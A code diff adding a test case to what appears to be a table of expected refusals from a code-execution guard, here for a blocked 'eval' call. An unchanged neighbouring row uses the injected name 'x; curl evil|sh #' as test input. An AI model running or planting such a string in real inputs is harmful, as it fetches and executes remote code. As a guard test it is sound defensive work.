@@ -230,6 +230,21 @@ export const CODE_ENDINGS: EndingRow[] = [
     data: { allowed: ["math"] },
   },
   {
+    title: "a call that the guard refused",
+    ending: refusedByGuard({
+      code: "policy.call_denied",
+      name: "eval",
+      reason: "eval",
+      what: "calling",
+      advice: "never",
+    }),
+    context: strict,
+    code: "policy.call_denied",
+    message: '<string>:1:1: calling or passing on "eval" is refused by the strict guard',
+    hint: "The strict guard never allows it",
+    data: { name: "eval", allowed: [] },
+  },
+  {
     title: "a name of the guard's that is none",
     ending: refusedByGuard({ name: "x; curl evil|sh #", reason: "x", what: "importing", advice: "add" }),
     context: allowing("math"),
